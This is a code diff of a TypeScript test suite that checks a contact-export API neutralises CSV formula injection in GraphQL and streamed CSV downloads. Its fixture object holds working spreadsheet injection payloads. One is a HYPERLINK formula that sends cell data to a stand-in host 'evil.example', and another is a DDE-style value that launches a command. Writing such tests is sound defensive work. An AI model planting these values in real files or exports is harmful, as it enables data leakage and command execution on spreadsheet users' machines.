@@ -11,13 +11,15 @@ import { createApiHarness, type ApiHarness } from '../../testing/api.js';
 import { describeEachDatabase } from '../../testing/databases.js';
 
 const serverRequire = createRequire(import.meta.url);
-const { parse } = serverRequire('csv-parse/sync') as { parse: (text: string, options: object) => Record<string, string>[] };
+const { parse } = serverRequire('csv-parse/sync') as {
+  parse: (text: string, options: object) => Record<string, string>[];
+};
 const parseCsv = (text: string) => parse(text, { delimiter: ';', bom: true, columns: true, relax_column_count: false });
 
 /** Values that spreadsheets evaluate, by column, and a harmless one. */
 const hostile = {
   lastName: '=HYPERLINK("http://evil.example/?"&A1;"click")',
-  firstName: '+1+cmd|\' /C calc\'!A0',
+  firstName: "+1+cmd|' /C calc'!A0",
   companyName: '-2+3',
   jobTitle: '@SUM(1;1)',
   addressLine1: '\t=1+1',
@@ -33,7 +35,9 @@ describeEachDatabase('export: CSV formula injection', (provider) => {
   beforeAll(async () => {
     h = await createApiHarness(provider, { purposes: true });
     server = await startServer({ db: h.t.db, provider, port: 0 });
-    const c = await h.t.db.contact.create({ data: { kind: 'CLIENT', brandId: h.brands.a, zoneId: h.zones.north, ...hostile, email: 'hostile@exemple.fr' } });
+    const c = await h.t.db.contact.create({
+      data: { kind: 'CLIENT', brandId: h.brands.a, zoneId: h.zones.north, ...hostile, email: 'hostile@exemple.fr' },
+    });
     await h.consent(c.id, 'newsletter');
   });
   afterAll(async () => {
@@ -51,14 +55,19 @@ describeEachDatabase('export: CSV formula injection', (provider) => {
   };
 
   it('neutralises formula cells in the GraphQL export', async () => {
-    const r = await h.as('MARKETING', 'newsletter')(`query($columns: [String!]) { exportContacts(format: CSV, columns: $columns) { contentBase64 rowCount } }`, { columns });
+    const r = await h.as('MARKETING', 'newsletter')(
+      `query($columns: [String!]) { exportContacts(format: CSV, columns: $columns) { contentBase64 rowCount } }`,
+      { columns },
+    );
     expect(r.errors).toBeUndefined();
     expectNeutralised(parseCsv(Buffer.from(r.data.exportContacts.contentBase64, 'base64').toString('utf8')));
   });
 
   it('neutralises formula cells in the streamed download', async () => {
     const token = (await issueToken(h.users.MARKETING)).token;
-    const res = await fetch(`${server.url}/export/contacts?format=csv&columns=${columns.join(',')}`, { headers: { authorization: `Bearer ${token}`, 'x-fidele-purpose': 'newsletter' } });
+    const res = await fetch(`${server.url}/export/contacts?format=csv&columns=${columns.join(',')}`, {
+      headers: { authorization: `Bearer ${token}`, 'x-fidele-purpose': 'newsletter' },
+    });
     expect(res.status).toBe(200);
     expectNeutralised(parseCsv(await res.text()));
   });
